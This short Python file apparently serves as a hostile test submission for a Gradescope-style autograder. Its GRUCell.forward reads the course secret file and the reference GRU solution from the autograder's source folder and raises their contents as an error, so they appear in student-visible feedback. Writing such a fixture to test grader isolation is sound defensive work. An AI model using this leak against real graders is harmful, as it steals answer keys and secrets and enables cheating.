"""HOSTILE (Gradescope): reads the course secret (which fixes every student's official inputs) and the reference
from the autograder's source folder, and raises them, so that they appear in the feedback the student sees."""

import ctypes

ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)  # test instrumentation (PR_SET_NAME): find leftovers

SOURCE = "{{AUTOGRADER}}/source"


def _loot():
    parts = []
    for name in (".seqlab/secret", "reference/gru.py"):
        try:
            with open(f"{SOURCE}/{name}") as handle:
                parts.append(handle.read())
        except OSError as error:
            parts.append(f"{name}: {type(error).__name__}")
    return "\n".join(parts)


class GRUCell:
    def __init__(self, input_size, hidden_size, rng=None):
        pass

    def forward(self, x, h_prev):
        raise RuntimeError(_loot())
